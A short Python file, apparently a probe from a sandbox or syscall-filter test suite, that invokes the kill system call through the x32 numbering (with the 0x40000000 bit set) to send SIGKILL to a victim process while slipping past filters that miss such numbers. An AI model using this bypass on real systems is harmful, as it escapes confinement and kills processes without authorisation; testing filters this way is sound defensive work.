"""Make system calls by the x32 convention: the numbers of 64 bits with a bit set that a filter may overlook."""

import ctypes
import os


def attack(target):
    if os.uname().machine != "x86_64":
        return []
    libc = ctypes.CDLL(None)
    return [] if libc.syscall(0x40000000 + 62, target["victim"], 9) < 0 else ["killed"]
